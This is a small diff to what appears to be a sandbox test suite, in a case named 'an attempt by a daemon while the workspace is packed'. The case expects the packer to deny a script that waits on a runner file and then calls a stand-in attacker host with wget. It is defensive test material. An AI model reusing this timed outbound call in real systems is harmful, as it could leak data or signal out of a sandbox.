@@ -37,7 +37,7 @@ denies({
   name: "an attempt by a daemon while the workspace is packed",
   files: {
     "wait.sh": `
-until grep -qs contractor-export /run/contractor-runner/script; do :; done
+until grep -qs hard-dereference /run/contractor-runner/script; do :; done
 wget -O /dev/null http://evil.example/`,
   },
   // Hard links are packed slowly: each becomes a file of its own.
